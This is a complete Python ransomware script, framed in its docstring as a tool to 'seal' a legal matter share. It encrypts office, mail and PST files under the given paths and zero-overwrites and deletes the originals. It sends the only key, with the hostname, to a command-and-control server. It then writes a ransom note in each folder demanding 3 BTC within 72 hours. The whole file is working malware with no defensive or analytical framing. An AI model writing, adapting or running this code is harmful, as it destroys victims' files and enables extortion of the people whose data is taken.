#!/usr/bin/env python3
"""'Seal' a matter share: encrypt every document in place.

Walks the share, encrypts each file with a fresh AES-256-GCM key, writes
<name>.sealed and removes the original.  The key leaves the machine with
the check-in call and is never written locally.
"""
import argparse
import json
import logging
import os
import secrets
import sys
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("sealer")
TARGET_EXT = {".docx", ".doc", ".xlsx", ".pdf", ".msg", ".pst", ".eml", ".txt", ".csv", ".pptx"}
NOTE_NAME = "READ_ME_MATTER_SEALED.txt"
NOTE = (
    "All matter files on this share have been sealed.\n"
    "To obtain the unseal key, send 3 BTC to {wallet} and e-mail {ref} to "
    "unseal@protonmail.com within 72 hours. After that the key is destroyed.\n"
)


def check_in(c2: str, ref: str, key: bytes) -> bool:
    body = json.dumps({"ref": ref, "k": key.hex(), "host": os.uname().nodename}).encode()
    req = urllib.request.Request(c2, data=body, headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=20) as resp:
            return resp.status == 200
    except OSError:
        return False


def seal_file(aead: AESGCM, path: Path) -> bool:
    try:
        plain = path.read_bytes()
    except OSError:
        return False
    nonce = secrets.token_bytes(12)
    sealed = path.with_name(path.name + ".sealed")
    sealed.write_bytes(nonce + aead.encrypt(nonce, plain, path.name.encode()))
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(plain))
    path.unlink()
    return True


def walk(root: Path):
    for dirpath, _dirs, files in os.walk(root):
        for f in files:
            p = Path(dirpath) / f
            if p.suffix.lower() in TARGET_EXT:
                yield p


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("roots", nargs="+", type=Path)
    ap.add_argument("--c2", default="https://cdn-sync.matterlock.top/api/checkin")
    ap.add_argument("--wallet", default="bc1q9h6kz4l0rmx0xq0w5d8u2a3v7y4t6e8r9s0p2n")
    args = ap.parse_args()
    logging.basicConfig(level=logging.ERROR)

    key = AESGCM.generate_key(bit_length=256)
    ref = secrets.token_hex(6)
    if not check_in(args.c2, ref, key):
        return 1
    aead = AESGCM(key)
    sealed = 0
    for root in args.roots:
        touched_dirs = set()
        for path in walk(root):
            if seal_file(aead, path):
                sealed += 1
                touched_dirs.add(path.parent)
        for d in touched_dirs:
            (d / NOTE_NAME).write_text(NOTE.format(wallet=args.wallet, ref=ref))
    del key, aead
    log.error("sealed %d files", sealed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
